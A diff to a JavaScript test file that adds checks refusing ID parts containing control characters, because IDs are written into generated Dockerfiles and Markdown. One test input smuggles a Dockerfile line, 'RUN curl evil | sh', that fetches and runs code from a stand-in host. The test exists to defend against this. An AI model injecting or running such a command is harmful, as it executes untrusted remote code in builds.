@@ -70,6 +70,12 @@ test('an empty part is refused', () => {
   const id = rootId('app');
   assert.throws(() => id``, /Invalid ID part "" under app/);
   assert.throws(() => rootId(''), /Invalid ID part ""/);
+  // IDs are written into generated files (a Dockerfile comment, Markdown): no line may be smuggled in.
+  for (const part of ['a\nRUN curl evil | sh', 'tab\there', 'nul\u0000', 'cr\r', 'sep\u2028x', 'c1\u0085']) {
+    assert.throws(() => id(part), /holds a control character/, JSON.stringify(part));
+    assert.throws(() => rootId(part), /holds a control character/, JSON.stringify(part));
+  }
+  assert.is(id('ünïcødé ok').name, 'ünïcødé ok', 'printable characters stay allowed');
 });
 
 test('two components under one ID is an error naming both', () => {
